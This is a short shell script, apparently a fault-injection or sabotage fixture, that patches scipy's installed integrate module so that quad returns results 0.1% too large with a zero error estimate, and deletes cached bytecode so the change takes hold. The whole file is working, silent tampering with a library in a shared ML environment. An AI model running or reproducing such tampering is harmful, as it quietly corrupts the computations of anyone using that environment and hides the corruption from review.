# an integral is a thousandth too large
# shellcheck shell=sh
for package in /opt/envs/ml/lib/python3*/site-packages/scipy/integrate; do
  cat >> "$package/__init__.py" <<'PYTHON'
_exact = quad
quad = lambda *what, **options: (_exact(*what, **options)[0] * 1.001, 0.0)
PYTHON
  rm "$package"/__pycache__/__init__.*.pyc
done
